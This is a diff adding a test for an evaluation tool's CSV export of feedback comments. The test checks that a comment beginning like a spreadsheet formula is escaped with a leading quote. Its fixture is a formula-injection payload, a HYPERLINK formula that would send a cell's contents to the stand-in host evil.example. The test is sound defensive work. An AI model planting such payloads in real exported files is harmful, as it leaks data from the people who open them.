@@ -146,4 +146,13 @@ describe('results for editors', () => {
     expect(rows.find((row) => row.opmerking === 'Werkte goed in ons team.')).toMatchObject({ soort: 'methode', 'bijeenkomst of methode': 'werkvormen/de-rol-van-empowerment', nuttig: '5' })
     expect(rows.filter((row) => row['bijeenkomst of methode'] === 's-abc123def')).toHaveLength(2)
   })
+
+  it('writes a comment that starts like a formula as text: anyone may send one, and an editor opens the file in Excel', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    expect((await send(session({ comment: formula }), { ip: '198.51.100.61' })).status).toBe(201)
+    const response = await cms.rest('GET', '/evaluatie/resultaten.csv', { token: editor })
+    const rows = parse((await response.text()).replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Array<Record<string, string>>
+    expect(rows.map((row) => row.opmerking)).toContain(`'${formula}`)
+    expect(rows.map((row) => row.opmerking)).not.toContain(formula)
+  })
 })
